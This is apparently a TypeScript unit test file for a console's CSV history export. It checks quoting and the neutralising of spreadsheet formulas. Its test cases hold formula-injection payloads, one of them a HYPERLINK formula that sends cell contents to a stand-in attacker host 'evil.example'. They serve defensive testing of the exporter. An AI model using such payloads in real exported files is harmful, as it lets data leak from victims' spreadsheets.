import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Execution } from 'web/console/api/contract';
import { cell, csvOf } from 'web/console/history/csv';

const RUN: Execution = {
  id: 'e1',
  action_id: 'a1',
  action_name: 'Create ticket',
  action_type: 'webhook',
  contact_id: 'c1',
  user_id: 'sam',
  user_name: 'Sam',
  success: false,
  message: 'Webhook timed out after 10 s',
  outcome: 'timeout',
  http_status: null,
  duration_ms: 10_000,
  trial: false,
  created_at: '2026-03-04T12:00:00Z',
};

test('should have a line of titles and one for each execution', () => {
  assert.equal(
    csvOf([RUN]),
    '\uFEFF"time","action","action_id","type","contact_id","user","user_id","result","outcome","message","http_status",' +
      '"duration_ms","trial","execution_id"\r\n' +
      '"2026-03-04T12:00:00Z","Create ticket","a1","webhook","c1","Sam","sam","failed","timeout",' +
      '"Webhook timed out after 10 s","",10000,"false","e1"\r\n',
  );
});

test('should have the titles alone where there is nothing', () => {
  assert.equal(csvOf([]).split('\r\n').length, 2);
});

const CELLS: ReadonlyArray<[value: string, written: string]> = [
  ['', '""'],
  ['plain', '"plain"'],
  ['with "quotes", and commas', '"with ""quotes"", and commas"'],
  ['a\r\nb\tc', '"a b c"'],
  ['Zoë 你好 😀', '"Zoë 你好 😀"'],
  // Formulas, however they begin.
  ['=1+1', `"'=1+1"`],
  ['+1 555 0100', `"'+1 555 0100"`],
  ['-2+3', `"'-2+3"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1+1', `"' =1+1"`],
  ['\r\n=1+1', `"' =1+1"`],
  ['  =1+1', `"'  =1+1"`],
  ['\u00a0=1+1', `"'\u00a0=1+1"`],
  ['＝1＋1', `"'＝1＋1"`],
  ['\u0000=1+1', `"' =1+1"`],
  [`=HYPERLINK("https://evil.example/?"&A1,"x")`, `"'=HYPERLINK(""https://evil.example/?""&A1,""x"")"`],
  // Where another character is usual between cells.
  ['x;=1+1', `"x;'=1+1"`],
  ['x; =1+1', `"x; '=1+1"`],
  ['x;"=1+1', `"x;""'=1+1"`],
  ['x,@SUM(A1)', `"x,'@SUM(A1)"`],
  ['x|+1', `"x|'+1"`],
  ['x\n=1+1', `"x =1+1"`],
  ['"=1+1', `"""=1+1"`],
  // No formula.
  ['a=b', '"a=b"'],
  ['me@example.com', '"me@example.com"'],
  ['2026-03-04', '"2026-03-04"'],
];

for (const [value, written] of CELLS) {
  test(`should write ${JSON.stringify(value)} as ${written}`, () => {
    assert.equal(cell(value), written);
  });
}

test('should write numbers as such and nothing for what there is not', () => {
  assert.equal(cell(503), '503');
  assert.equal(cell(0), '0');
  assert.equal(cell(null), '""');
  assert.equal(cell(undefined), '""');
});
